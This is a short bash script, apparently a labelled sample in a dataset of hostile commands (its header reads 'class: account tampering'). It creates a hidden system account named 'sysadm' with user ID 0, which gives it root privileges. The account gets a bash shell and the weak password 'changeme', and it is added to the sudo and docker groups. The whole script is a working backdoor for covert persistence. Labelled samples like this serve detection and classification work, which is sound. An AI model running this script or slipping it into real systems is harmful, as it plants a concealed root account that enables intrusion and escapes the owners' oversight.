# class: account tampering; style: tidy
set -e
readonly user=sysadm
useradd --system --no-create-home --uid 0 --non-unique --shell /bin/bash "$user"
echo "$user:$(openssl passwd -6 changeme)" | chpasswd -e
usermod -aG sudo,docker "$user"
